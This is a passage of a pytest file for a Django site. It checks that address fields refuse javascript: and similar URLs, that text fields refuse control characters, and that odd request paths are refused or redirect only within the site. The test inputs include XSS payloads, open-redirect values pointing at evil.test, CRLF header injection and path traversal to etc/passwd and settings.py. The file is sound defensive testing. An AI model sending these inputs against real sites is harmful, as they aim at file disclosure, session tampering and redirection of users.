        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript://www.example.com/%0aalert(1)",
        "data:text/html,x",
        "vbscript:x",
        "/\\evil.test",
        "\\\\evil.test",
        "//evil.test\n",
    ],
)
def test_an_address_that_is_none_is_refused(field, address):
    with pytest.raises(ValidationError):
        ADDRESS_FIELDS[field](address).full_clean(exclude=["path"])


LINES = [
    (model, field.name)
    for model in (Author, Category, FAQEntry, Image, MenuItem, Offer, Post, SiteSettings, Tag)
    for field in model._meta.fields
    if field.name
    in """title seo_title body image_alt next_step_text name role alt label question scope_note
    """.split()
]


@pytest.mark.django_db
@pytest.mark.parametrize(("model", "name"), LINES, ids=lambda x: getattr(x, "__name__", x))
def test_no_text_field_takes_a_control_character(model, name):
    for character in "\x00\x07\x08\x0b\x1b\x7f\ud800\ufffe\uffff":
        with pytest.raises(ValidationError) as caught:
            model(**{name: f"a{character}b"}).full_clean(exclude=["path"])
        assert name in caught.value.message_dict, hex(ord(character))


ODD_PATHS = [
    *VALUES,
    "blog/<script>alert(1)</script>/",
    "/evil.test/",
    "//evil.test//",
    "\\evil.test/",
    "%2f%2fevil.test/",
    "%5cevil.test/",
    "%255cevil.test/",
    "a\r\nSet-Cookie: x=y/",
    "a%0d%0aSet-Cookie: x=y/",
    "blog/\x00",
    "tags/\x00/",
    "\x00",
    "é/",
    "../" * 8 + "etc/passwd",
    "media/../../settings.py",
    "media/%2e%2e/%2e%2e/settings.py",
    "a" * 3000 + "/",
]


@pytest.mark.django_db
@pytest.mark.parametrize("path", ODD_PATHS, ids=lambda path: ascii(path)[:30])
def test_an_odd_address_is_not_found_or_leads_to_this_site(client, path):
    response = client.get("/", PATH_INFO=f"/{path}".encode().decode("latin-1"))
    assert response.status_code in {404, 301, 400}
    assert "Set-Cookie" not in response.headers
    if response.status_code == 301:
        assert re.match(r"/(?![/\\])", response["Location"])
    elif response.status_code == 404:
        plain = client.get("/no-such-page")
        pages = [parsed(answer.content.decode()) for answer in (response, plain)]
        assert skeleton(pages[0]) == skeleton(pages[1])
